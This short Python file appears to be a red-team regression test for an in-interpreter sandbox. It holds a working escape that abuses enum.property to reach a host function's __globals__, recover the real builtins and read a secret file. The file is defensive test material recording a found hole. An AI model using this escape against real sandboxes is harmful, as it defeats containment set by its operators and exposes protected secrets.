# mypy: ignore-errors
# Technique: enum.property (3.12+) serves a member redirect with `getattr(self._cls_type,
# self.name)` (or `getattr(instance._value_, self.name)`). A plugin subclass owns
# `_attr_type`/`_cls_type` as its own class attributes and `name` is public, so placing an
# instance in a plugin class and reading the attribute was a `getattr` of any name on any
# object: `__globals__` of a host function gave the runtime's module globals, and with them
# the real builtins. Found in the third red-team pass of the in-interpreter layer.
import enum

from suaveplan import fs

U = "_" * 2


def attack(secret_path, canary_path):
    class Redirect(enum.property):
        _attr_type = "attr"
        _cls_type = fs.read_text

    probe = Redirect()

    class Holder:
        x = probe

    probe.name = U + "globals" + U
    found = Holder().x
    if isinstance(found, dict) and "_b" in found:
        print("SANDBOX-" + "ESCAPED")
        real = found["_b"]
        return real.open(secret_path).read()
    return repr(found)[:80]
